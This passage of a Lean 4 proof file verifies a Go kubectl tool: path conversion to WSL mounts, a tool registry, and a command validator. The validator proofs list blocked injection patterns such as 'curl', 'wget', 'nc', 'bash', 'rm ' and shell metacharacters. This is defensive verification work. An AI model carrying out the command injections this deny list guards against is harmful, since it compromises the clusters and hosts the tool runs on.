    HasPrefix (convertWindowsPathToWSL sampleWorld "C:cfg".toList) "/mnt/c/".toList = false := by
  decide

/-- C25, amended: for an input made of an ASCII letter, `:` and a remainder
that begins with a backslash or a slash and holds no `/.kube/` once its
backslashes are converted, `isWindowsPath` is true and
`convertWindowsPathToWSL` returns `/mnt/`, the lower-cased drive letter and the
remainder with every backslash replaced by a slash; the result starts with
`/mnt/<lower-case drive>/` and contains no backslash. -/
theorem C25_drive_letter_path_to_mnt (w : World) (a : Char) (tl : GoString)
    (hletter : (65 ≤ a.toNat ∧ a.toNat ≤ 90) ∨ (97 ≤ a.toNat ∧ a.toNat ≤ 122))
    (hsep : ∃ t, tl = '\\' :: t ∨ tl = '/' :: t)
    (hkube : Contains (ReplaceAll tl "\\".toList "/".toList) "/.kube/".toList = false) :
    isWindowsPath (a :: ':' :: tl) = true ∧
    convertWindowsPathToWSL w (a :: ':' :: tl) =
      "/mnt/".toList ++ [toLowerRune a] ++ tl.map (fun c => if c = '\\' then '/' else c) ∧
    HasPrefix (convertWindowsPathToWSL w (a :: ':' :: tl))
      ("/mnt/".toList ++ [toLowerRune a] ++ "/".toList) = true ∧
    '\\' ∉ convertWindowsPathToWSL w (a :: ':' :: tl) ∧
    (97 ≤ (toLowerRune a).toNat ∧ (toLowerRune a).toNat ≤ 122) := by
  have hlow := toLowerRune_letter a hletter
  have hrep : ReplaceAll tl "\\".toList "/".toList =
      tl.map (fun c => if c = '\\' then '/' else c) := replaceAll_single tl '\\' '/'
  have hconv : convertWindowsPathToWSL w (a :: ':' :: tl) =
      "/mnt/".toList ++ [toLowerRune a] ++ tl.map (fun c => if c = '\\' then '/' else c) := by
    have ha : a.toNat < 128 := by omega
    have hidx := index_none_of_contains_false hkube
    rw [hrep] at hidx
    unfold convertWindowsPathToWSL
    have hcond : ((':' : Char) == ':' && decide (a.toNat < 128)) = true := by
      simp [ha]
    simp only [hcond, if_true, hidx, hrep]
    rfl
  refine ⟨?_, hconv, ?_, ?_, hlow⟩
  · unfold isWindowsPath
    have hcond : ((':' : Char) == ':' && (decide (65 ≤ a.toNat) && decide (a.toNat ≤ 90) ||
        decide (97 ≤ a.toNat) && decide (a.toNat ≤ 122))) = true := by
      rcases hletter with ⟨h1, h2⟩ | ⟨h1, h2⟩ <;> simp [h1, h2]
    simp only [hcond, if_true]
  · rw [hconv, hasPrefix_iff]
    obtain ⟨t, ht | ht⟩ := hsep
    · subst ht
      exact ⟨t.map (fun c => if c = '\\' then '/' else c), by simp⟩
    · subst ht
      exact ⟨t.map (fun c => if c = '\\' then '/' else c), by simp⟩
  · rw [hconv]
    intro hm
    rcases List.mem_append.1 hm with hm | hm
    · rcases List.mem_append.1 hm with hm | hm
      · exact absurd hm (by decide)
      · have := List.mem_singleton.1 hm
        rw [← this] at hlow
        exact absurd hlow.1 (by decide)
    · obtain ⟨c, -, hc⟩ := List.mem_map.1 hm
      by_cases h : c = '\\'
      · rw [if_pos h] at hc
        exact absurd hc (by decide)
      · rw [if_neg h] at hc
        exact h hc

theorem C25_drive_letter_path_to_mnt_witness :
    convertWindowsPathToWSL sampleWorld "C:\\Users\\me\\cfg".toList =
      "/mnt/c/Users/me/cfg".toList :=
  (C25_drive_letter_path_to_mnt sampleWorld 'C' "\\Users\\me\\cfg".toList
    (by decide) ⟨"Users\\me\\cfg".toList, Or.inl rfl⟩ (by decide)).2.1

/-! ## The tool registry -/

theorem lookup_cons_eq (n k : GoString) (x : Tool) (rest : List (GoString × Tool)) :
    List.lookup n ((k, x) :: rest) = if n == k then some x else List.lookup n rest := by
  cases h : n == k with
  | true => simp [List.lookup, h]
  | false => simp [List.lookup, h]

theorem lookup_mapAssign_self (key : GoString) (value : Tool) :
    ∀ m : List (GoString × Tool), List.lookup key (mapAssign m key value) = some value
  | [] => by
    unfold mapAssign
    rw [lookup_cons_eq, if_pos (beq_self_eq_true key)]
  | (k, x) :: rest => by
    unfold mapAssign
    by_cases h : (key == k) = true
    · rw [if_pos h, lookup_cons_eq, if_pos (beq_self_eq_true key)]
    · rw [if_neg h, lookup_cons_eq, if_neg h]
      exact lookup_mapAssign_self key value rest

theorem lookup_mapAssign_other (key n : GoString) (value : Tool) (hn : n ≠ key) :
    ∀ m : List (GoString × Tool), List.lookup n (mapAssign m key value) = List.lookup n m
  | [] => by
    unfold mapAssign
    have : ¬ ((n == key) = true) := fun h => hn (eq_of_beq h)
    rw [lookup_cons_eq, if_neg this]
  | (k, x) :: rest => by
    unfold mapAssign
    by_cases h : (key == k) = true
    · have hk : key = k := eq_of_beq h
      subst hk
      have : ¬ ((n == key) = true) := fun h2 => hn (eq_of_beq h2)
      rw [if_pos h, lookup_cons_eq, lookup_cons_eq, if_neg this, if_neg this]
    · rw [if_neg h, lookup_cons_eq, lookup_cons_eq, lookup_mapAssign_other key n value hn rest]

theorem length_mapAssign_absent (key : GoString) (value : Tool) :
    ∀ m : List (GoString × Tool), List.lookup key m = none →
      (mapAssign m key value).length = m.length + 1
  | [], _ => rfl
  | (k, x) :: rest, h => by
    rw [lookup_cons_eq] at h
    unfold mapAssign
    by_cases hk : (key == k) = true
    · rw [if_pos hk] at h; cases h
    · rw [if_neg hk] at h
      rw [if_neg hk, List.length_cons, length_mapAssign_absent key value rest h,
        List.length_cons]

/-- C26: the registry `NewTools()` is empty.  Registering a tool whose name
is not yet registered does not panic; after it `Lookup` of the name returns
the tool, `HasTool` of the name is true, `Count` is one more, `AllTools` has
`Count` elements, and `Lookup` and `HasTool` of every other name are as
before.  `Lookup` of a name that is not registered returns nil. -/
theorem C26_register_new_tool (R : Tools) (tool : Tool)
    (hnew : R.HasTool tool.Name = false) :
    NewTools.Count = 0 ∧
    (R.RegisterTool tool).2 = none ∧
    (R.RegisterTool tool).1.Lookup tool.Name = some tool ∧
    (R.RegisterTool tool).1.HasTool tool.Name = true ∧
    (R.RegisterTool tool).1.Count = R.Count + 1 ∧
    (R.RegisterTool tool).1.AllTools.length = (R.RegisterTool tool).1.Count ∧
    (∀ n, n ≠ tool.Name →
      (R.RegisterTool tool).1.Lookup n = R.Lookup n ∧
      (R.RegisterTool tool).1.HasTool n = R.HasTool n) ∧
    (∀ n, R.HasTool n = false → R.Lookup n = none) := by
  have hreg : R.RegisterTool tool = ({ tools := mapAssign R.tools tool.Name tool }, none) := by
    unfold Tools.RegisterTool
    have h : ¬ ((List.lookup tool.Name R.tools).isSome = true) := by
      have h2 : (List.lookup tool.Name R.tools).isSome = false := hnew
      rw [h2]
      decide
    rw [if_neg h]
  have habsent : List.lookup tool.Name R.tools = none := by
    have h2 : (List.lookup tool.Name R.tools).isSome = false := hnew
    cases hl : List.lookup tool.Name R.tools with
    | none => rfl
    | some x => rw [hl] at h2; cases h2
  rw [hreg]
  refine ⟨rfl, rfl, lookup_mapAssign_self _ _ _, ?_, length_mapAssign_absent _ _ _ habsent,
    ?_, ?_, ?_⟩
  · show (List.lookup tool.Name (mapAssign R.tools tool.Name tool)).isSome = true
    rw [lookup_mapAssign_self]
    rfl
  · show (List.map Prod.snd (mapAssign R.tools tool.Name tool)).length = _
    rw [List.length_map]
    rfl
  · intro n hn
    have := lookup_mapAssign_other tool.Name n tool hn R.tools
    refine ⟨this, ?_⟩
    show (List.lookup n (mapAssign R.tools tool.Name tool)).isSome = (List.lookup n R.tools).isSome
    rw [this]
  · intro n hn
    have h2 : (List.lookup n R.tools).isSome = false := hn
    show List.lookup n R.tools = none
    cases hl : List.lookup n R.tools with
    | none => rfl
    | some x => rw [hl] at h2; cases h2

theorem C26_register_new_tool_witness :
    NewTools.HasTool "test-tool".toList = false ∧
    (NewTools.RegisterTool { name := "test-tool".toList, ident := 1 }).1.Lookup
        "test-tool".toList = some { name := "test-tool".toList, ident := 1 } ∧
    (NewTools.RegisterTool { name := "test-tool".toList, ident := 1 }).1.Count = 1 :=
  ⟨by decide,
    (C26_register_new_tool NewTools { name := "test-tool".toList, ident := 1 }
      (by decide)).2.2.1,
    (C26_register_new_tool NewTools { name := "test-tool".toList, ident := 1 }
      (by decide)).2.2.2.2.1⟩

/-- C27: `RegisterTool` panics, with `tool already registered: <name>`,
exactly when a tool of the same name is in the registry; the registry is
then left as it was, so `Lookup` still returns the tool registered before and
`Count` is the same. -/
theorem C27_register_duplicate_panics (R : Tools) (tool : Tool) :
    ((R.RegisterTool tool).2 =
        some ("tool already registered: ".toList ++ tool.Name) ↔
      R.HasTool tool.Name = true) ∧
    ((R.RegisterTool tool).2.isSome = true ↔ R.HasTool tool.Name = true) ∧
    (R.HasTool tool.Name = true →
      (R.RegisterTool tool).1 = R ∧
      (∀ n, (R.RegisterTool tool).1.Lookup n = R.Lookup n) ∧
      (R.RegisterTool tool).1.Count = R.Count) := by
  have hdup : R.HasTool tool.Name = true →
      R.RegisterTool tool = (R, some ("tool already registered: ".toList ++ tool.Name)) := by
    intro h
    unfold Tools.RegisterTool
    have h2 : (List.lookup tool.Name R.tools).isSome = true := h
    rw [if_pos h2]
  have hnew : ¬ (R.HasTool tool.Name = true) → (R.RegisterTool tool).2 = none := by
    intro h
    unfold Tools.RegisterTool
    have h2 : ¬ ((List.lookup tool.Name R.tools).isSome = true) := h
    rw [if_neg h2]
  refine ⟨⟨?_, fun h => by rw [hdup h]⟩, ⟨?_, fun h => by rw [hdup h]; rfl⟩, ?_⟩
  · intro h
    by_contra hc
    rw [hnew hc] at h
    cases h
  · intro h
    by_contra hc
    rw [hnew hc] at h
    cases h
  · intro h
    rw [hdup h]
    exact ⟨rfl, fun _ => rfl, rfl⟩

theorem C27_register_duplicate_panics_witness :
    (NewTools.RegisterTool { name := "kubectl".toList, ident := 1 }).1.HasTool
        "kubectl".toList = true ∧
    (((NewTools.RegisterTool { name := "kubectl".toList, ident := 1 }).1.RegisterTool
        { name := "kubectl".toList, ident := 2 }).1.Lookup "kubectl".toList =
      some { name := "kubectl".toList, ident := 1 }) :=
  ⟨by decide,
    ((C27_register_duplicate_panics
      (NewTools.RegisterTool { name := "kubectl".toList, ident := 1 }).1
      { name := "kubectl".toList, ident := 2 }).2.2 (by decide)).2.1 "kubectl".toList ▸
      (by decide)⟩

/-! ## The gate and the classifiers together -/

/-- C28: a command without ` -- ` is accepted by `ValidateKubectlCommand`
exactly when it has at least two tokens, the base name of the first is
`kubectl`, the second is one of the allowlisted verbs, and its lower-cased
text contains none of the base patterns of the scanner (with `>/`) and none
of the interpreter names. -/
theorem C28_acceptance_without_double_dash (c : GoString)
    (hdd : Contains c " -- ".toList = false) :
    ValidateKubectlCommand c = none ↔
      (∃ w0 w1 rest, Fields c = w0 :: w1 :: rest ∧ Base w0 = "kubectl".toList ∧
        w1 ∈ specVerbs) ∧
      (∀ p ∈ [";", "&&", "||", "|", "`", "$(", "$\x7b", ">/", "<", ">>", "<<", "&", "\n", "\r",
          "curl", "wget", "nc", "netcat", "rm ", "mv ", "cp ", "chmod", "chown", "sudo",
          "su ", "bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map String.toList,
        Contains (ToLower c) p = false) := by
  have hs := execShape_false_of_no_doubleDash c hdd
  have hto : ∀ p ∈ allPatterns,
      p ∈ [";", "&&", "||", "|", "`", "$(", "$\x7b", ">/", "<", ">>", "<<", "&", "\n", "\r",
          "curl", "wget", "nc", "netcat", "rm ", "mv ", "cp ", "chmod", "chown", "sudo",
          "su ", "bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map String.toList := by
    decide
  have hfrom : ∀ p ∈ [";", "&&", "||", "|", "`", "$(", "$\x7b", ">/", "<", ">>", "<<", "&",
          "\n", "\r", "curl", "wget", "nc", "netcat", "rm ", "mv ", "cp ", "chmod", "chown",
          "sudo", "su ", "bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map
          String.toList, p ∈ allPatterns := by
    decide
  have hcheck : checkForCommandInjection c = none ↔
      ∀ p ∈ allPatterns, Contains (ToLower c) p = false := by
    rw [check_whole c hs, ← firstPattern_none_iff]
    cases firstPattern (ToLower c) allPatterns <;> simp
  rw [validate_eq_none_iff]
  constructor
  · rintro ⟨w0, w1, rest, hf, hb, hc, hv⟩
    exact ⟨⟨w0, w1, rest, hf, hb, (isValid_iff_specVerbs w1).1 hv⟩,
      fun p hp => hcheck.1 hc p (hfrom p hp)⟩
  · rintro ⟨⟨w0, w1, rest, hf, hb, hv⟩, hp⟩
    exact ⟨w0, w1, rest, hf, hb, hcheck.2 (fun p hpm => hp p (hto p hpm)),
      (isValid_iff_specVerbs w1).2 hv⟩

theorem C28_acceptance_without_double_dash_witness :
    Contains "kubectl get pods -n prod".toList " -- ".toList = false ∧
    ((∃ w0 w1 rest, Fields "kubectl get pods -n prod".toList = w0 :: w1 :: rest ∧
        Base w0 = "kubectl".toList ∧ w1 ∈ specVerbs) ∧
      (∀ p ∈ [";", "&&", "||", "|", "`", "$(", "$\x7b", ">/", "<", ">>", "<<", "&", "\n", "\r",
          "curl", "wget", "nc", "netcat", "rm ", "mv ", "cp ", "chmod", "chown", "sudo",
          "su ", "bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map String.toList,
        Contains (ToLower "kubectl get pods -n prod".toList) p = false)) :=
  ⟨by decide,
    (C28_acceptance_without_double_dash "kubectl get pods -n prod".toList (by decide)).1
      (by decide)⟩

theorem fieldsGo_cons_nonspace (c : Char) (t cur : GoString) (hc : isSpace c = false) :
    fieldsGo (c :: t) cur = fieldsGo t (c :: cur) := by
  rw [fieldsGo]
  simp [hc]

theorem fieldsGo_nonspace (s : GoString) : ∀ (v cur : GoString),
    (∀ c ∈ v, isSpace c = false) → fieldsGo (v ++ s) cur = fieldsGo s (v.reverse ++ cur)
  | [], cur, _ => rfl
  | c :: v, cur, h => by
    have hc : isSpace c = false := h c (List.mem_cons_self _ _)
    have hv : ∀ d ∈ v, isSpace d = false := fun d hd => h d (List.mem_cons_of_mem _ hd)
    rw [List.cons_append, fieldsGo_cons_nonspace c _ _ hc,
      fieldsGo_nonspace s v (c :: cur) hv, List.reverse_cons, List.append_assoc]
    rfl

/-- The tokens of `kubectl ` followed by one token. -/
theorem fields_kubectl_token (v : GoString) (hne : v ≠ [])
    (hv : ∀ c ∈ v, isSpace c = false) :
    Fields ("kubectl ".toList ++ v) = ["kubectl".toList, v] := by
  have h1 : "kubectl ".toList ++ v = "kubectl".toList ++ (' ' :: v) := rfl
  have h2 : fieldsGo v [] = [v] := by
    have := fieldsGo_nonspace [] v [] hv
    rw [List.append_nil, List.append_nil] at this
    rw [this]
    unfold fieldsGo
    have hr : ¬ (v.reverse.isEmpty = true) := by
      cases v with
      | nil => exact absurd rfl hne
      | cons a t => simp
    rw [if_neg hr, List.reverse_reverse]
  unfold Fields
  rw [h1, fieldsGo_nonspace _ _ _ (by decide)]
  show fieldsGo (' ' :: v) "kubectl".toList.reverse = _
  unfold fieldsGo
  rw [if_pos (by decide), if_neg (by decide), h2]
  rfl

theorem modifies_kubectl_token (v : GoString) (hne : v ≠ [])
    (hv : ∀ c ∈ v, isSpace c = false) :
    ModifiesResource ("kubectl ".toList ++ v) =
      if v ∈ ["get", "describe", "logs", "top", "version", "cluster-info",
          "config"].map String.toList then "no".toList
      else if v ∈ ["create", "apply", "delete", "patch", "replace", "scale", "rollout",
          "annotate", "label"].map String.toList then "yes".toList
      else if v ∈ ["exec", "port-forward", "proxy"].map String.toList then "no".toList
      else "unknown".toList := by
  unfold ModifiesResource
  rw [fields_kubectl_token v hne hv]
  have hb : ¬ Base "kubectl".toList ≠ kubectlName := not_not.2 base_kubectl
  simp only [if_neg hb]

/-- C29: the mutation classifier labels no verb the gate refuses.  For a token
`v`, if `ModifiesResource("kubectl " + v)` is `yes` or `no` then
`isValidKubectlSubcommand(v)` is true; and the allowlisted verbs it labels
`unknown` are exactly explain, api-versions, api-resources, diff, auth,
certificate, cordon, uncordon, drain, taint and wait. -/
theorem C29_labelled_verbs_are_allowlisted :
    (∀ v : GoString, (∀ c ∈ v, isSpace c = false) →
      (ModifiesResource ("kubectl ".toList ++ v) = "yes".toList ∨
        ModifiesResource ("kubectl ".toList ++ v) = "no".toList) →
      isValidKubectlSubcommand v = true) ∧
    (∀ v : GoString,
      (isValidKubectlSubcommand v = true ∧
        ModifiesResource ("kubectl ".toList ++ v) = "unknown".toList) ↔
      v ∈ ["explain", "api-versions", "api-resources", "diff", "auth", "certificate",
        "cordon", "uncordon", "drain", "taint", "wait"].map String.toList) := by
  constructor
  · intro v hv hlab
    cases v with
    | nil =>
      rcases hlab with h | h
      · exact absurd h (by decide)
      · exact absurd h (by decide)
    | cons a t =>
      rw [modifies_kubectl_token (a :: t) (by simp) hv] at hlab
      have h1 : ∀ x ∈ ["get", "describe", "logs", "top", "version", "cluster-info",
          "config"].map String.toList, isValidKubectlSubcommand x = true := by decide
      have h2 : ∀ x ∈ ["create", "apply", "delete", "patch", "replace", "scale", "rollout",
          "annotate", "label"].map String.toList, isValidKubectlSubcommand x = true := by
        decide
      have h3 : ∀ x ∈ ["exec", "port-forward", "proxy"].map String.toList,
          isValidKubectlSubcommand x = true := by decide
      split_ifs at hlab with g1 g2 g3
      · exact h1 _ g1
      · exact h2 _ g2
      · exact h3 _ g3
      · rcases hlab with h | h
        · exact absurd h (by decide)
        · exact absurd h (by decide)
  · intro v
    have hfwd : ∀ x ∈ specVerbs,
        ModifiesResource ("kubectl ".toList ++ x) = "unknown".toList →
        x ∈ ["explain", "api-versions", "api-resources", "diff", "auth", "certificate",
          "cordon", "uncordon", "drain", "taint", "wait"].map String.toList := by
      decide
    have hbwd : ∀ x ∈ ["explain", "api-versions", "api-resources", "diff", "auth",
        "certificate", "cordon", "uncordon", "drain", "taint", "wait"].map String.toList,
        isValidKubectlSubcommand x = true ∧
          ModifiesResource ("kubectl ".toList ++ x) = "unknown".toList := by
      decide
    constructor
    · rintro ⟨h1, h2⟩
      exact hfwd v ((isValid_iff_specVerbs v).1 h1) h2
    · exact hbwd v

theorem C29_labelled_verbs_are_allowlisted_witness :
    (∀ c ∈ "rollout".toList, isSpace c = false) ∧
    ModifiesResource ("kubectl ".toList ++ "rollout".toList) = "yes".toList ∧
    isValidKubectlSubcommand "rollout".toList = true :=
  ⟨by decide, by decide,
    C29_labelled_verbs_are_allowlisted.1 "rollout".toList (by decide) (Or.inl (by decide))⟩

theorem check_error_mem {c e : GoString} (h : checkForCommandInjection c = some e) :
    ∃ P ∈ allPatterns, e = dangerousError P := by
  cases hs : execShape (ToLower c) with
  | false =>
    rw [check_whole c hs] at h
    obtain ⟨P, hP, rfl⟩ := Option.map_eq_some'.1 h
    obtain ⟨pre, post, h1, -, -⟩ := firstPattern_some hP
    exact ⟨P, by rw [h1]; simp, rfl⟩
  | true =>
    obtain ⟨seg, more, -, -, hcheck⟩ := check_exec c hs
    rw [hcheck] at h
    obtain ⟨P, hP, rfl⟩ := Option.map_eq_some'.1 h
    refine ⟨P, ?_, rfl⟩
    cases hh : firstPattern (headOf (ToLower c)) dangerousPatterns with
    | some Q =>
      rw [hh] at hP
      cases hP
      obtain ⟨pre, post, h1, -, -⟩ := firstPattern_some hh
      exact List.mem_append_left _ (by rw [h1]; simp)
    | none =>
      rw [hh] at hP
      have hP2 : firstPattern seg dangerousPatterns = some P := hP
      obtain ⟨pre, post, h1, -, -⟩ := firstPattern_some hP2
      exact List.mem_append_left _ (by rw [h1]; simp)

set_option maxRecDepth 20000 in
theorem violation_text_of_pattern : ∀ Q ∈ allPatterns,
    Contains ("Security violation: ".toList ++ dangerousError Q)
      "interactive mode not supported".toList = false := by
  decide

/-- C30: `edit` is stopped by the allowlist.  A command whose first token has
base name `kubectl` and whose second token is `edit` is rejected by
`ValidateKubectlCommand`; `KubectlTool.Run`, with string kubeconfig and workdir
in its context, answers with the result `Security violation: ` followed by
the reason, whose text has no `interactive mode not supported` in it, and
the answer is the same for every environment and process runner. -/
theorem C30_edit_is_stopped_by_the_allowlist (c w0 : GoString) (rest : List GoString)
    (hf : Fields c = w0 :: "edit".toList :: rest) (hb : Base w0 = "kubectl".toList) :
    ∃ e, ValidateKubectlCommand c = some e ∧
      Contains ("Security violation: ".toList ++ e)
        "interactive mode not supported".toList = false ∧
      ∀ (t : KubectlTool) (w : World) (kubeconfig workDir : GoString)
        (args : List (GoString × GoValue)),
        args.lookup "command".toList = some (.str c) →
        KubectlTool.Run t w { kubeconfig := .str kubeconfig, workdir := .str workDir } args =
          (some { Error := "Security violation: ".toList ++ e }, none) := by
  have hrun : ∀ e, ValidateKubectlCommand c = some e →
      ∀ (t : KubectlTool) (w : World) (kubeconfig workDir : GoString)
        (args : List (GoString × GoValue)),
        args.lookup "command".toList = some (.str c) →
        KubectlTool.Run t w { kubeconfig := .str kubeconfig, workdir := .str workDir } args =
          (some { Error := "Security violation: ".toList ++ e }, none) := by
    intro e hv t w k d args hargs
    unfold KubectlTool.Run
    dsimp only
    rw [hargs]
    dsimp only
    rw [hv]
  have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
  have hval := validate_of_fields_cons c w0 _ hf
  rw [if_neg hb2] at hval
  cases hc : checkForCommandInjection c with
  | some err =>
    rw [hc] at hval
    obtain ⟨P, hP, rfl⟩ := check_error_mem hc
    exact ⟨_, hval, violation_text_of_pattern P hP, hrun _ hval⟩
  | none =>
    rw [hc] at hval
    have hv2 : ValidateKubectlCommand c = some (invalidSubcommandError "edit".toList) := hval
    exact ⟨_, hv2, by decide, hrun _ hv2⟩

theorem C30_edit_is_stopped_by_the_allowlist_witness :
    (IsInteractiveCommand "kubectl edit deployment app".toList).1 = true ∧
    ∃ e, ValidateKubectlCommand "kubectl edit deployment app".toList = some e ∧
      Contains ("Security violation: ".toList ++ e)
        "interactive mode not supported".toList = false ∧
      ∀ (t : KubectlTool) (w : World) (kubeconfig workDir : GoString)
        (args : List (GoString × GoValue)),
        args.lookup "command".toList = some (.str "kubectl edit deployment app".toList) →
        KubectlTool.Run t w { kubeconfig := .str kubeconfig, workdir := .str workDir } args =
          (some { Error := "Security violation: ".toList ++ e }, none) :=
  ⟨by decide,
    C30_edit_is_stopped_by_the_allowlist "kubectl edit deployment app".toList
      "kubectl".toList ["deployment".toList, "app".toList] (by decide) (by decide)⟩

end Kubectl
